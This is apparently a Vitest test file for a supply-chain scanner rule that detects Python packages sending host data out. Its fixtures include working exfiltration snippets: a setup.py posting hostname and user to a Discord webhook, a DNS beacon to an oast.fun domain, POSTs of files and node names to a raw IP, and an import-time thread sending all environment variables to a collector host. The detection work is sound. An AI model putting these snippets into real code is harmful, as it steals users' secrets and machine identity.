import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('exfil-endpoint', () => {
  it('flags host data posted to a Discord webhook from setup.py (critical)', () => {
    const src = `import os, socket, getpass, requests\nfrom setuptools import setup\nrequests.post('https://discord.com/api/webhooks/123/abc', json={'content': socket.gethostname() + getpass.getuser()})\nsetup(name='x')\n`;
    expect(maxSev(hits('exfil-endpoint', { 'setup.py': src }))).toBe('critical');
  });
  it('flags a dependency-confusion DNS/OAST beacon at import (critical)', () => {
    const src = `import socket, os\nsocket.gethostbyname(os.getlogin() + '.c2lu5xb2vtc0000hb4g0gk8ruhcyyyyyb.oast.fun')\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('flags a raw-IP URL sent the host name from a module (critical); a file upload to a raw IP from a module is held (medium)', () => {
    const src = `import requests, platform\ndef ping():\n    requests.post('http://45.61.0.7:8080/c', data=platform.node())\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src }))).toBe('critical');
    const src2 = `import requests\ndef up(p):\n    requests.post('http://45.61.0.7:8080/c', data=open(p).read())\n`;
    expect(maxSev(hits('exfil-endpoint', { 'pkg/util.py': src2 }))).toBe('medium');
  });
  it('keeps a webhook URL in a mere string constant low/medium', () => {
    const f = hits('exfil-endpoint', { 'pkg/consts.py': `EXAMPLE = 'https://discord.com/api/webhooks/1/x'\n` });
    expect(['low', 'medium']).toContain(maxSev(f));
  });
  it('does not flag private IPs, localhost or endpoints in comments/docstrings', () => {
    const src = `"""Post to https://discord.com/api/webhooks/1/x"""\nimport requests\n# requests.post('http://45.61.0.7/x')\nrequests.get('http://127.0.0.1:8000/health')\nrequests.get('http://192.168.1.1/')\n`;
    expect(hits('exfil-endpoint', { 'pkg/__init__.py': src })).toEqual([]);
  });
  it('skips tests', () => {
    expect(hits('exfil-endpoint', { 'tests/test_x.py': `import requests\nrequests.post('https://webhook.site/abc', data=open('f').read())\n` })).toEqual([]);
  });
});

describe('exfil-endpoint: import-time phone-home to any host', () => {
  const BEACON = (body: string) => `import socket, os, urllib.request, threading\ndef send_telemetry():\n    try:\n        host = socket.gethostname()\n${body}        urllib.request.urlopen("https://api.collector.example/p?h=" + host + "&e=" + env, timeout=2)\n    except:\n        pass\nthreading.Thread(target=send_telemetry, daemon=True).start()\n`;
  it('flags host name + every environment variable sent on import, started in a thread (critical)', () => {
    const src = BEACON(`        env = "\\n".join(f"{k}={v}" for k, v in os.environ.items())\n`);
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('holds host name alone sent on import (high: held, not blocked on its own)', () => {
    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': BEACON(`        env = ""\n`) }))).toBe('high');
  });
  it('does not flag the same code in an ordinary module, nor identity and network in different functions', () => {
    expect(hits('exfil-endpoint', { 'pkg/telemetry.py': BEACON(`        env = ""\n`) })).toEqual([]);
    const split = `import socket, requests\ndef who():\n    return socket.gethostname()\ndef latest():\n    return requests.get("https://pypi.org/pypi/pkg/json").json()\nNAME = who()\nV = latest()\n`;
    expect(hits('exfil-endpoint', { 'pkg/__init__.py': split })).toEqual([]);
  });
});
